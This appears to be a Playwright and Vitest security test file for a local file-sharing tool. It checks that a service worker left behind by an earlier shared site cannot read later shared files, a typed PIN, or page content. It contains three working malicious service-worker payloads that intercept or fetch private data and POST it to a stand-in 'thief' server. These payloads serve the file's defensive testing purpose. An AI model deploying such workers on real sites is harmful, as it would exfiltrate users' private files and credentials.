/** What a shared site left in a browser gets nothing of what is shared later at the same port: in a real Chromium. */
import type { Page } from 'playwright-core';
import { chromium } from 'playwright-core';
import { describe, expect, onTestFinished, test } from 'vitest';
import { serveOtherSite } from '../support/other-site.ts';
import { PIN, WITH_PIN } from '../support/private-share.ts';
import { startLocalShare } from '../support/visitor/local-share.ts';

const SECRET = 'TOP SECRET';
const PRIVATE = { 'private.txt': SECRET, 'README.md': SECRET };
/** How often a worker tries that fetches by itself. */
const TRIES = 12;

/** Hands everything on, and sends what came back to another site. */
const passingOn = (thief: string): string => `
  addEventListener('fetch', (event) => event.respondWith((async () => {
    const response = await fetch(event.request);
    const text = await response.clone().text().catch(() => '');
    fetch('${thief}', { method: 'POST', mode: 'no-cors', body: event.request.url + ' ' + text });
    return response;
  })()));`;

/** Tells another site whatever visitors send. */
const listeningIn = (thief: string): string => `
  addEventListener('fetch', (event) => event.respondWith((async () => {
    const sent = await event.request.clone().text();
    const response = await fetch(event.request);
    fetch('${thief}', { method: 'POST', mode: 'no-cors', body: event.request.url + ' ' + sent });
    return response;
  })()));`;

/** Leaves visitors alone, and fetches what it wants as long as the browser lets it. */
const helpingItself = (thief: string): string => `
  const wanted = ['/private.txt', '/', '/?json', '/README.md'];
  let isRunning = false;
  const tell = (text) => fetch('${thief}', { method: 'POST', mode: 'no-cors', body: text });
  async function steal() {
    for (let round = 0; round < ${TRIES}; round++) {
      const mode = round % 2 === 0 ? 'cors' : 'no-cors';
      const texts = wanted.map((path) => fetch(path, { mode }).then((response) => response.text()).catch(String));
      await tell('round ' + round + ' ' + (await Promise.all(texts)).join(' '));
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
  addEventListener('fetch', (event) => {
    if (isRunning) return;
    isRunning = true;
    event.waitUntil(steal());
  });`;

const PAGE = `<script>
  navigator.serviceWorker.register('/worker.js');
  localStorage.setItem('left', 'over');
  caches.open('left').then((cache) => cache.put('/left.txt', new Response('stale')));
</script>`;
const START = 'oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());';

async function openPage(): Promise<Page> {
  const rootSwitches = process.getuid?.() === 0 ? ['--no-sandbox'] : [];
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--disable-gpu', ...rootSwitches],
  });
  onTestFinished(() => browser.close());
  return await (await browser.newContext()).newPage();
}

/** Shares a site by choice, lets a page of it leave its worker in the browser, and stops sharing. */
async function leaveWorker(page: Page, worker: string): Promise<number> {
  const site = await startLocalShare(
    { 'index.html': PAGE, 'worker.js': `${START}${worker}` },
    { directory: { site: 'on' } },
  );
  await page.goto(`http://localhost:${site.port}/`);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  await page.goto('about:blank');
  await site.stop();
  return site.port;
}

/** As after a while without a page of the site. */
async function stopWorkers(page: Page): Promise<void> {
  const session = await page.context().newCDPSession(page);
  await session.send('ServiceWorker.enable');
  await session.send('ServiceWorker.stopAllWorkers');
  await session.detach();
}

const readLeft = (page: Page): Promise<unknown> =>
  page.evaluate(async () => ({
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    caches: await caches.keys(),
    stored: localStorage.getItem('left'),
  }));

const NOTHING = { workers: 0, caches: [], stored: null };

describe('a worker that a shared site left', () => {
  test.each(['still running', 'stopped meanwhile'])('is not handed what is shared later: %s', async (state) => {
    const page = await openPage();
    const thief = await serveOtherSite({});
    const port = await leaveWorker(page, passingOn(thief.url));
    const later = await startLocalShare(PRIVATE, { port });
    if (state === 'stopped meanwhile') await stopWorkers(page);
    const opened = await page.goto(`http://localhost:${port}/private.txt`);
    expect(await opened?.text()).toBe(SECRET);
    await page.goto(`http://localhost:${port}/`);
    await page.getByText(SECRET).waitFor();
    expect(await readLeft(page)).toEqual(NOTHING);
    expect(thief.received.join()).not.toContain(SECRET);
    expect(later.asked).toContain('/private.txt 307');
  });

  test('gets nothing by itself either, however long the browser lets it run', async () => {
    const page = await openPage();
    const thief = await serveOtherSite({});
    const port = await leaveWorker(page, helpingItself(thief.url));
    await startLocalShare(PRIVATE, { port });
    await page.goto(`http://localhost:${port}/`);
    await page.getByText(SECRET).waitFor();
    await expect.poll(() => thief.received.filter((text) => text.startsWith('round')).length).toBe(TRIES);
    expect(thief.received.join()).not.toContain(SECRET);
    expect(thief.received.filter((text) => text.includes('private.txt'))).toEqual([]);
    expect(await readLeft(page)).toEqual(NOTHING);
  });

  test('does not see the PIN that is typed to come in, nor what is shown then', async () => {
    const page = await openPage();
    const thief = await serveOtherSite({});
    const port = await leaveWorker(page, listeningIn(thief.url));
    await startLocalShare(PRIVATE, { port, access: WITH_PIN });
    await page.goto(`http://localhost:${port}/`);
    await page.getByLabel('PIN').pressSequentially(PIN);
    await page.getByText(SECRET).waitFor();
    expect(await readLeft(page)).toEqual(NOTHING);
    expect(thief.received.join()).not.toMatch(new RegExp(`${PIN}|${SECRET}`));
  });

  test('is not handed a folder with an index page, which is a site by itself', async () => {
    const page = await openPage();
    const thief = await serveOtherSite({});
    const port = await leaveWorker(page, passingOn(thief.url));
    await startLocalShare({ 'index.html': `<p>${SECRET}</p>` }, { port });
    await page.goto(`http://localhost:${port}/`);
    await page.getByText(SECRET).waitFor();
    expect(await readLeft(page)).toEqual(NOTHING);
    expect(thief.received.join()).not.toContain(SECRET);
  });
});

describe('a site that was not chosen', () => {
  test('leaves no worker behind, and keeps what its own pages store', async () => {
    const page = await openPage();
    const tree = { 'index.html': '<p>x</p>', 'worker.js': passingOn('/'), 'data.json': '{"a":1}' };
    const site = await startLocalShare(tree);
    await page.goto(`http://localhost:${site.port}/`);
    const attempt = () => navigator.serviceWorker.register('/worker.js').then(() => 'registered', String);
    expect(await page.evaluate(attempt)).toContain('404');
    await page.evaluate(() => localStorage.setItem('mine', 'kept'));
    expect(await page.evaluate(async () => (await fetch('/data.json')).json())).toEqual({ a: 1 });
    await page.reload();
    expect(await page.evaluate(() => localStorage.getItem('mine'))).toBe('kept');
  });
});

describe('the share’s own page', () => {
  test('may fetch, and is asked to come again once only', async () => {
    const page = await openPage();
    const share = await startLocalShare(PRIVATE);
    await page.goto(`http://localhost:${share.port}/`);
    await page.getByText(SECRET).waitFor();
    expect(await page.evaluate(async () => (await fetch('/private.txt')).text())).toBe(SECRET);
    await page.reload();
    await page.getByText(SECRET).waitFor();
    expect(share.asked.filter((entry) => entry.startsWith('/ '))).toEqual(['/ 307', '/ 200', '/ 200']);
    const downloading = page.waitForEvent('download');
    await page.locator('tbody a[download]').first().click();
    expect((await downloading).suggestedFilename()).toBe('private.txt');
  });
});
